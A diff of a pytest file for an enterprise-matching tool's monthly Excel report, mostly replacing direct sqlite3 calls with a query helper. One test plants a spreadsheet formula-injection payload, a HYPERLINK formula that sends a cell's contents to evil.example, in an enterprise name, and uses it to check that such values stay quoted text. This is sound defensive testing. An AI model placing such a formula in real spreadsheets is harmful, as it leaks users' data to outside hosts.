@@ -2,7 +2,6 @@
 reproducible, written as a workbook with the agreed sheets (and a page, see test_report_page.py)."""
 
 import json
-import sqlite3
 from collections import Counter
 
 import pytest
@@ -134,9 +133,8 @@ def test_without_flagged_key_enterprises_every_enterprise_is_covered(sample_db, 
     from matcher.store.db import open_database, session_factory
 
     cli = copy_sample_db(sample_db, tmp_path)
-    with sqlite3.connect(cli.db) as conn:
-        conn.execute("UPDATE enterprises SET key_enterprise = 0")
-    with session_factory(open_database(f"sqlite:///{cli.db}"))() as session:
+    cli.query("UPDATE enterprises SET key_enterprise = FALSE")
+    with session_factory(open_database(cli.url))() as session:
         covered = report_enterprises(session)
     assert len(covered) == cli.query("SELECT count(*) FROM enterprises")[0][0]
 
@@ -164,8 +162,7 @@ def test_a_rerun_after_new_follow_up_keeps_the_proposals_and_counts_the_follow_u
 def test_a_key_enterprise_without_open_needs_is_listed_with_what_to_do(sample_db, tmp_path):
     cli = copy_sample_db(sample_db, tmp_path)
     enterprise = cli.query("SELECT e.id, e.name FROM enterprises e WHERE key_enterprise ORDER BY id LIMIT 1")[0]
-    with sqlite3.connect(cli.db) as conn:
-        conn.execute("UPDATE needs SET status = 'closed' WHERE enterprise_id = ?", (enterprise[0],))
+    cli.query("UPDATE needs SET status = 'closed' WHERE enterprise_id = ?", enterprise[0])
     cli("report", "monthly", "--month", MONTH, "--out", tmp_path / "r")
     listing = load_workbook(tmp_path / "r" / f"monthly-report-{MONTH}.xlsx")["推荐清单"]
     header = [c.value for c in listing[1]]
@@ -184,7 +181,7 @@ def test_an_empty_database_or_a_missing_index_is_refused_clearly_and_nothing_is_
     assert cli.query("SELECT count(*) FROM report_runs") == [(0,)] and not (tmp_path / "r").exists()
 
     copy = copy_sample_db(sample_db, tmp_path / "noindex")
-    shutil.rmtree(tmp_path / "noindex" / "sample.db.index")
+    shutil.rmtree(copy.index)
     result = copy("report", "monthly", "--month", MONTH, "--out", tmp_path / "r", ok=False)
     assert result.exit_code == 1 and "cxy index build" in result.output
     assert copy.query("SELECT count(*) FROM report_runs") == [(0,)] and not (tmp_path / "r").exists()
@@ -194,9 +191,8 @@ def test_names_that_look_like_formulas_stay_quoted_text_in_the_workbook(sample_d
     cli = copy_sample_db(sample_db, tmp_path)
     enterprise = cli.query("SELECT id FROM enterprises WHERE key_enterprise ORDER BY id LIMIT 1")[0][0]
     payload = '=HYPERLINK("http://evil.example/?"&B2,"点击查看")'
-    with sqlite3.connect(cli.db) as conn:
-        conn.execute("UPDATE enterprises SET name = ? WHERE id = ?", (payload, enterprise))
-        conn.execute("UPDATE needs SET title = '@SUM(1+1)' || title WHERE enterprise_id = ?", (enterprise,))
+    cli.query("UPDATE enterprises SET name = ? WHERE id = ?", payload, enterprise)
+    cli.query("UPDATE needs SET title = '@SUM(1+1)' || title WHERE enterprise_id = ?", enterprise)
     cli("report", "monthly", "--month", MONTH, "--out", tmp_path / "r")
     book = load_workbook(tmp_path / "r" / f"monthly-report-{MONTH}.xlsx")
     risky = [c for ws in book for row in ws.iter_rows() for c in row
